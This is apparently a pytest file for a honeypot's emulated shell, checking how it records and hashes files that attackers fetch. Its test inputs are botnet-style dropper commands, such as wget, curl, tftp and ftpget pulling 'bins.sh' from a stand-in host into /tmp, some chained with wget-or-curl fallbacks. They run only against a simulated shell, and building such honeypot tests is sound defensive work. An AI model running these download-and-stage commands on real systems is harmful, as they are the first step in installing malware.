"""Transfer commands: the artifact-capture path."""

from __future__ import annotations

import pytest

from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.util.hashing import sha256_hex

PAYLOAD = b"\x7fELF-payload"


@pytest.fixture
def ctx():
    context = ShellContext(
        remote_files={
            "http://10.9.8.7/bins.sh": PAYLOAD,
            "tftp://10.9.8.7/bins.sh": PAYLOAD,
            "ftp://10.9.8.7/bins.sh": PAYLOAD,
        }
    )
    return context


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


def transfer_events(ctx):
    return [e for e in ctx.file_events if e.source == "transfer"]


class TestWget:
    def test_success_creates_artifact(self, ctx, engine):
        engine.run_line("cd /tmp; wget http://10.9.8.7/bins.sh")
        (event,) = transfer_events(ctx)
        assert event.path == "/tmp/bins.sh"
        assert event.sha256 == sha256_hex(PAYLOAD)

    def test_output_document_flag(self, ctx, engine):
        engine.run_line("wget http://10.9.8.7/bins.sh -O /tmp/out")
        assert ctx.fs.read("/tmp/out") == PAYLOAD

    def test_unreachable_no_artifact(self, ctx, engine):
        record = engine.run_line("wget http://99.99.99.99/x")
        assert transfer_events(ctx) == []
        assert "http://99.99.99.99/x" in ctx.uris

    def test_bare_host_gets_scheme(self, ctx, engine):
        engine.run_line("wget 99.99.99.99/f")
        assert ctx.uris == ["http://99.99.99.99/f"]

    def test_missing_url(self, engine):
        assert "missing URL" in engine.run_line("wget -q").output


class TestCurl:
    def test_output_flag(self, ctx, engine):
        engine.run_line("curl -o /tmp/c http://10.9.8.7/bins.sh")
        assert ctx.fs.read("/tmp/c") == PAYLOAD

    def test_remote_name_flag(self, ctx, engine):
        engine.run_line("cd /tmp; curl -O http://10.9.8.7/bins.sh")
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD

    def test_stdout_mode_no_event(self, ctx, engine):
        record = engine.run_line("curl http://10.9.8.7/bins.sh")
        assert transfer_events(ctx) == []
        assert "ELF" in record.output

    def test_dev_null_output_prints_nothing(self, ctx, engine):
        record = engine.run_line(
            "curl -s -o /dev/null http://10.9.8.7/bins.sh && echo ok"
        )
        assert record.output == "ok\n"
        assert ctx.file_events == []
        assert ctx.uris == ["http://10.9.8.7/bins.sh"]

    def test_failure_message(self, ctx, engine):
        record = engine.run_line("curl https://site.invalid/ -s -X GET --max-redirs 5")
        assert "Failed to connect" in record.output
        assert "https://site.invalid/" in ctx.uris

    def test_value_flags_not_urls(self, ctx, engine):
        engine.run_line(
            "curl https://t.invalid/ -X POST --cookie 'sid=abc' --referer 'https://r.invalid/'"
        )
        # only the positional URL is fetched (referer value is not)
        assert ctx.uris.count("https://t.invalid/") == 1


class TestTftpFtpget:
    def test_tftp_get(self, ctx, engine):
        engine.run_line("cd /tmp; tftp -g -r bins.sh 10.9.8.7")
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD

    def test_tftp_timeout(self, ctx, engine):
        record = engine.run_line("tftp -g -r nothere 10.9.8.7")
        assert "timeout" in record.output

    def test_ftpget(self, ctx, engine):
        engine.run_line(
            "cd /tmp; ftpget -u anonymous -p anonymous 10.9.8.7 bins.sh bins.sh"
        )
        assert ctx.fs.read("/tmp/bins.sh") == PAYLOAD
        assert "ftp://10.9.8.7/bins.sh" in ctx.uris

    def test_ftpget_usage_error(self, engine):
        assert "usage" in engine.run_line("ftpget 10.9.8.7").output

    def test_ftp_records_host(self, ctx, engine):
        engine.run_line("ftp 10.9.8.7")
        assert "ftp://10.9.8.7/" in ctx.uris


class TestFallbackChains:
    def test_wget_success_skips_curl(self, ctx, engine):
        engine.run_line(
            "wget http://10.9.8.7/bins.sh -O /tmp/f || curl -o /tmp/f http://10.9.8.7/bins.sh"
        )
        assert len(ctx.uris) == 1

    def test_wget_failure_falls_back(self, ctx, engine):
        engine.run_line(
            "wget http://99.1.1.1/f -O /tmp/f || curl -o /tmp/f http://10.9.8.7/bins.sh"
        )
        assert ctx.fs.read("/tmp/f") == PAYLOAD
        assert len(ctx.uris) == 2
